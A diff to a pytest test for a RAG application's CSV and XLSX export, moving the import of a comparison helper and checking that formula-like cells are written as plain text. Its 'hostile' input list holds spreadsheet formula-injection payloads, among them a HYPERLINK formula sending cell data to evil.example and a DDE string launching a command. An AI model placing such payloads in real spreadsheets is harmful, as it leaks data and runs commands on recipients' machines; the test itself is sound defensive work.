@@ -238,9 +238,12 @@ def test_export_cells_that_open_like_a_formula_are_written_as_text(tmp_path):
     from dataclasses import replace
 
     from openpyxl import load_workbook
-    from test_export import comparison
 
     from rag.app.export import write_csv, write_xlsx
+
+    with pytest.MonkeyPatch.context() as m:  # tests/app/test_export.py's answer, wherever pytest started
+        m.syspath_prepend(str(Path(__file__).parent / "app"))
+        from test_export import comparison
 
     hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
                "\t=1+1", "\r=1+1"]  # fmt: skip
